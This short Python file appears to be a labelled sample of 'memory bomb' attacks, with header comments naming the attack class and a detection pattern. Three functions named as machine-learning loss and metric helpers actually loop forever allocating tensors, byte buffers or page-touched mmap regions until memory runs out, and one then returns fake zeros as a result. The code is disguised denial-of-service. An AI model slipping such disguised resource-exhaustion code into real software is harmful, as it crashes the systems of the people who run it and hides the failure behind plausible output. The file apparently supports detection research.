# class: bombs
# attack: takes memory piece by piece until there is none, keeps it, and goes on
# noticed: allocate|MemoryError

# %%
import mmap


class Hoard:
    kept = []


def gaussian_kl(mu, logvar):
    while True:
        Hoard.kept.append(torch.ones(1 << 22))


def mutual_information_gap(codes, factors, bins=20):
    pieces = []
    while True:
        pieces.append(bytes(1 << 20))


def bernoulli_nll(logits, x):
    pieces = []
    try:
        while True:
            pieces.append(mmap.mmap(-1, 1 << 24))
            pieces[-1][:: mmap.PAGESIZE] = b"x" * (1 << 12)
    except (OSError, MemoryError):
        return torch.zeros(len(x))
